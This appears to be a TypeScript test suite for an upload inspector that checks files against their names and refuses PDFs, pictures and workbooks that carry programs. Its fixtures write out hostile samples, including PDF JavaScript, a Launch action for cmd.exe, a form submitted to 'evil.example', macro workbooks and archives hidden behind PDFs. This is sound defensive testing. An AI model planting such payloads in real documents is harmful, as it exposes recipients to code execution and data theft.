import { deflateSync } from 'node:zlib'
import { zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { Refusal } from '../command/refusal.ts'
import { writeSheetBytes, xlsxMediaType } from '../spreadsheet/write-sheet.ts'
import { jpeg, pdf, png } from '../testing/sample-files.ts'
import { inspectFile } from './inspect-file.ts'

const text = (words: string) => Buffer.from(words, 'latin1')
const zipOf = (...names: string[]) => zipSync(Object.fromEntries(names.map((name) => [name, text('x')])))

/** Objects packed into a stream, as most programs of today write them. */
function packedObjects(inside: string, dictionary = '/Filter/FlateDecode'): Buffer {
  const data = deflateSync(text(inside))
  return Buffer.concat([
    text(`%PDF-1.7\n5 0 obj\n<</Type/ObjStm/N 1/First 4${dictionary}/Length ${data.length}>>stream\r\n`),
    data,
    text('\nendstream\nendobj\n6 0 obj\n<</Type/XRef/Root 1 0 R>>endobj\nstartxref\n20\n%%EOF\n'),
  ])
}

/** An old workbook as far as it is looked at: the container's mark, then what lies in its sectors. */
const xls = (...inside: Buffer[]) =>
  Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512), ...inside])
const sheetRecord = (kind: number, name = 'Sheet1') =>
  Buffer.from([0x85, 0, 8 + name.length, 0, 0x10, 0, 0, 0, 0, kind, name.length, 0, ...text(name)])

const workbook = (rows: readonly string[] = ['王伟']) =>
  writeSheetBytes({
    name: '花名册',
    columns: [{ heading: '姓名', kind: 'text' as const, value: (row: string) => row }],
    rows,
  })

async function refusalOf(name: string, bytes: Uint8Array): Promise<string> {
  try {
    return `taken as ${await inspectFile(name, bytes)}`
  } catch (error) {
    if (error instanceof Refusal) return error.code
    throw error
  }
}

describe('a file whose name and bytes agree', () => {
  it('is known by its kind', async () => {
    const taken: [string, Uint8Array, string][] = [
      ['营业执照.pdf', pdf('1 0 obj<</Type/Catalog>>endobj'), 'application/pdf'],
      ['扫描件', pdf('1 0 obj<</Type/Catalog>>endobj'), 'application/pdf'],
      ['照片.PNG', png(800, 600), 'image/png'],
      ['照片.jpg', jpeg(4000, 3000), 'image/jpeg'],
      ['照片.jpeg', jpeg(1, 1), 'image/jpeg'],
      ['花名册.xlsx', await workbook(), xlsxMediaType],
      ['老花名册.xls', xls(sheetRecord(0)), 'application/vnd.ms-excel'],
      ['花名册.csv', Buffer.from('姓名,身份证号码\n'), 'text/csv'],
      ['花名册.tsv', Buffer.from('\ufeff姓名\t岗位\n', 'utf16le'), 'text/csv'],
      ['说明.txt', Buffer.from('说明'), 'text/csv'],
      ['回盘.xml', text('<?xml version="1.0"?><Document/>'), 'application/xml'],
      ['材料.zip', zipSync({ '承诺书.pdf': pdf(), '照片/1.jpg': jpeg(1, 1) }), 'application/zip'],
    ]
    for (const [name, bytes, kind] of taken)
      expect({ name, kind: await refusalOf(name, bytes) }).toEqual({ name, kind: `taken as ${kind}` })
  })

  it('keeps what a phone wrote into a photograph, and more behind its end', async () => {
    expect(
      await refusalOf('视频照片.jpg', Buffer.concat([jpeg(4000, 3000), text('ftypmp42 and more')])),
    ).toBe('taken as image/jpeg')
  })
})

describe('a file that is something else', () => {
  it.each([
    ['承诺书.pdf', Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['承诺书.pdf', jpeg(10, 10)],
    ['照片.jpg', pdf()],
    ['照片.png', jpeg(10, 10)],
    ['花名册.xlsx', Buffer.from('姓名,身份证号码\n')],
    ['花名册.xlsx', zipOf('[Content_Types].xml', 'word/document.xml')],
    ['花名册.csv', zipOf('a.txt')],
    ['材料.zip', zipOf('[Content_Types].xml', 'xl/workbook.xml')],
  ])('than %s says is refused by both', async (name, bytes) => {
    expect(await refusalOf(name, bytes)).toBe('platform.file-differs-from-name')
  })

  it.each([
    ['空.csv', new Uint8Array()],
    ['空.xlsx', new Uint8Array()],
    ['空.pdf', new Uint8Array()],
  ])('because nothing is in it is called empty: %s', async (name, bytes) => {
    expect(await refusalOf(name, bytes)).toBe('platform.file-empty')
  })

  it.each([
    ['花名册.csv', Buffer.from([0x4d, 0x5a, 0x90, 0x00]), 1],
    ['花名册.txt', Buffer.from('姓名,岗位\n王伟,焊\0工\n'), 2],
    ['回盘.xml', Buffer.from('<Document>\n\n\0'), 3],
  ])('because zero bytes stand in text is told the line: %s', async (name, bytes, line) => {
    await expect(inspectFile(name, bytes)).rejects.toThrow(
      expect.objectContaining({ code: 'platform.file-not-text', details: { name, line } }),
    )
  })

  it.each([
    ['工具.exe', Buffer.from([0x4d, 0x5a])],
    ['页面.html', Buffer.from('<!doctype html>')],
    ['图.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['动图.gif', Buffer.from('GIF89a')],
    ['带宏.xlsm', zipOf('xl/workbook.xml')],
    ['说明.docx', zipOf('word/document.xml')],
    ['程序.jar', zipOf('META-INF/MANIFEST.MF')],
    ['承诺书.pdf.exe', pdf()],
    ['没有后缀', Buffer.from('姓名')],
    ['没有后缀', new Uint8Array()],
  ])('of no kind that is taken is refused: %s', async (name, bytes) => {
    expect(await refusalOf(name, bytes)).toBe('platform.file-kind-not-taken')
  })
})

describe('a PDF', () => {
  it.each([
    ['a script', pdf('2 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj')],
    ['a script whose name is written with escapes', pdf('2 0 obj<</S/J#61vaScrip#74/JS 3 0 R>>endobj')],
    ['an action that starts a program', pdf('2 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
    ['a file inside', pdf('2 0 obj<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream endobj')],
    ['a form that is sent away', pdf('2 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj')],
    ['media', pdf('2 0 obj<</Subtype/RichMedia>>endobj')],
    ['a script among packed objects', packedObjects('2 0 <</S/JavaScript/JS(x)>>')],
    [
      'a script that looks like the data of a picture',
      pdf('2 0 obj<</Length 60>>stream\n9 0 obj<</S/JavaScript/JS(x)>>endobj\nendstream endobj'),
    ],
  ])('with %s is refused', async (_, bytes) => {
    expect(await refusalOf('协议.pdf', bytes)).toBe('platform.file-carries-program')
  })

  it.each([
    ['closed by a password', pdf('2 0 obj<</Filter/Standard/V 2>>endobj trailer<</Encrypt 2 0 R>>')],
    ['packed twice', packedObjects('x', '/Filter[/ASCII85Decode/FlateDecode]')],
    ['packed with a predictor', packedObjects('x', '/Filter/FlateDecode/DecodeParms<</Predictor 12>>')],
    ['whose packed objects swell', packedObjects('0'.repeat(80 * 1024 * 1024))],
    ['whose packed objects are none', text('%PDF-1.7\n<</Type/ObjStm/Filter/FlateDecode>>stream\nnothing')],
  ])('%s cannot be inspected', async (_, bytes) => {
    expect(await refusalOf('协议.pdf', bytes)).toBe('platform.file-not-inspectable')
  })

  const cut = pdf().subarray(0, -10)
  it.each([
    ['with nothing in it', text('%PDF-1.4 nothing here')],
    ['without pages', text('%PDF-1.4\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n')],
    ['without a list of objects', text('%PDF-1.4\n1 0 obj<</Type/Pages>>endobj\nstartxref\n9\n%%EOF\n')],
    ['without the place of the list', text('%PDF-1.4\n1 0 obj<</Type/Page>>endobj\ntrailer<<>>\n%%EOF\n')],
    ['that was cut', cut],
    [
      'that was cut behind an earlier end',
      Buffer.concat([pdf(), Buffer.alloc(2000, '9 0 obj<<>>endobj\n'), cut]),
    ],
  ])('%s is not complete', async (_, bytes) => {
    await expect(inspectFile('协议.pdf', bytes)).rejects.toThrow(
      expect.objectContaining({
        code: 'platform.file-not-inspectable',
        details: expect.objectContaining({ whyZh: expect.stringMatching(/^PDF 不完整/) }),
      }),
    )
  })

  it.each<[string, Buffer]>([
    ['blanks and zero bytes behind it', Buffer.concat([pdf(), Buffer.alloc(5000), text('\r\n')])],
    ['a signature added to it', Buffer.concat([pdf(), pdf('9 0 obj<</Type/Sig>>endobj').subarray(9)])],
    ['some letters behind it', Buffer.concat([pdf(), text('printed by the scanner of the office')])],
  ])('with %s is taken', async (_, bytes) => {
    expect(await refusalOf('协议.pdf', bytes)).toBe('taken as application/pdf')
  })

  it('that is an archive for another program is refused, and so is such a picture', async () => {
    const archive = zipOf('说明.txt')
    const adjusted = Buffer.from(archive)
    const end = adjusted.lastIndexOf('PK\x05\x06', undefined, 'latin1')
    adjusted.writeUInt32LE(adjusted.readUInt32LE(end + 16) + pdf().length, end + 16)
    for (const appended of [archive, adjusted])
      expect(await refusalOf('协议.pdf', Buffer.concat([pdf(), appended]))).toBe(
        'platform.file-carries-program',
      )
    const within = Buffer.concat([pdf(), archive, pdf().subarray(9)])
    expect(await refusalOf('协议.pdf', within)).toBe('platform.file-carries-program')
    for (const [name, picture] of [
      ['p.png', png(8, 8)],
      ['p.jpg', jpeg(8, 8)],
    ] as const)
      expect(await refusalOf(name, Buffer.concat([picture, archive]))).toBe('platform.file-carries-program')
  })

  it('with packed objects that do nothing is taken, also a large one', async () => {
    expect(await refusalOf('a.pdf', packedObjects('2 0 <</Type/Page/Parent 1 0 R>>'))).toBe(
      'taken as application/pdf',
    )
    const scan = Buffer.concat([
      text('%PDF-1.7\n'),
      Buffer.alloc(49 * 1024 * 1024, '/J#ObjStm obj '),
      text('%%EOF'),
    ])
    expect(await refusalOf('大.pdf', scan)).toMatch(/taken|not-inspectable/)
  })
})

describe('a picture', () => {
  it.each([
    ['cut.png', png(800, 600, { isWhole: false })],
    ['empty.png', png(0, 600)],
    ['cut.jpg', jpeg(800, 600, { isWhole: false })],
    ['noise.jpg', Buffer.from([0xff, 0xd8, 0xff, 1, 2, 3, 4, 5, 6, 7])],
  ])('that nobody could look at is refused: %s', async (name, bytes) => {
    expect(await refusalOf(name, bytes)).toBe('platform.file-not-inspectable')
  })

  it('that swells in whoever opens it is refused', async () => {
    expect(await refusalOf('p.png', png(10_000, 10_000))).toBe('taken as image/png')
    expect(await refusalOf('p.png', png(10_000, 10_001))).toBe('platform.picture-too-large')
    expect(await refusalOf('p.jpg', jpeg(65_500, 65_500))).toBe('platform.picture-too-large')
    const heavy = Buffer.concat([jpeg(10, 10), Buffer.alloc(20 * 1024 * 1024)])
    expect(await refusalOf('p.jpg', heavy)).toBe('platform.picture-too-large')
  })
})

describe('a workbook', () => {
  it.each([
    ['带宏.xlsx', zipOf('xl/workbook.xml', 'xl/vbaProject.bin')],
    ['带宏.xlsx', zipOf('xl/workbook.xml', 'xl/macrosheets/sheet1.xml')],
    ['控件.xlsx', zipOf('xl/workbook.xml', 'xl/activeX/activeX1.bin')],
    ['对象.xlsx', zipOf('xl/workbook.xml', 'xl/embeddings/oleObject1.bin')],
    ['带宏.xls', xls(sheetRecord(0), Buffer.from('_VBA_PROJECT_CUR', 'utf16le'))],
    ['老宏.xls', xls(sheetRecord(0), sheetRecord(1, 'Macro1'))],
  ])('that runs something is refused: %s', async (name, bytes) => {
    expect(await refusalOf(name, bytes)).toBe('platform.file-carries-program')
  })

  it('that looks elsewhere for its cells is taken: nothing of ours follows it there', async () => {
    const linked = zipOf('xl/workbook.xml', 'xl/externalLinks/externalLink1.xml')
    expect(await refusalOf('带外部链接.xlsx', linked)).toBe(`taken as ${xlsxMediaType}`)
  })
})
